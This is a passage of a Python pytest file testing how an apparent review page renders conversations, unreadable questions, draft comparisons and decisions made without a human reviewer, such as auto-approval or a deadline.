    assert "<b>user</b>\nHello.\n\n* &lt;b&gt;stock&lt;/b&gt;\n\n<b>assistant</b>\nYes?" in html


@pytest.mark.parametrize("more", [{"name": "Ann"}, {"content": [{"type": "text"}]}, {"role": None}])
def test_other_lists_are_shown_as_json(more: Any) -> None:
    html = rendered({"state": "running", "inputs": {"messages": [{"role": "user", "content": "Hello.", **more}]}})
    assert "<pre>[\n  {" in html
    assert not page._is_conversation([])


@pytest.mark.parametrize("ask", ["tool", {"kind": "vote"}, [5]])
def test_an_unreadable_question_is_reported_as_unreadable(ask: Any) -> None:
    html = rendered({"state": "pending", "rounds": [round_of(1, CALL, ask=ask)]})
    assert "The question cannot be read." in html


def test_a_draft_is_not_compared_with_a_question(monkeypatch: pytest.MonkeyPatch) -> None:
    rounds = [round_of(1, "Draft 1.", **SAID), round_of(2, CALL, ask=ASK), round_of(3, "Draft 2.", **SAID)]
    assert "Changes since round" not in rendered({"state": "pending", "rounds": rounds})


@pytest.mark.parametrize(
    ("more", "by"),
    [
        ({"auto_approved": "short"}, "by auto_approve"),
        ({"not_shown": True, "outcome": "deny", "ask": ASK}, "because it could not be shown in full"),
        ({"schema_revision": "this"}, "by the schema"),
        ({"schema_revision": "earlier"}, "at the deadline"),
        ({}, "at the deadline"),
    ],
)
def test_a_decision_that_no_person_made_says_what_made_it(more: Json, by: str) -> None:
    decided = {**decision(CALL, approve=True), **more, "reviewer": None}
    found = with_decisions(of_details({"state": "running", "rounds": []}), [decided])
    assert found["rounds"][0]["by"] == by
    assert by in rendered({"state": "running", "rounds": []}, [decided])
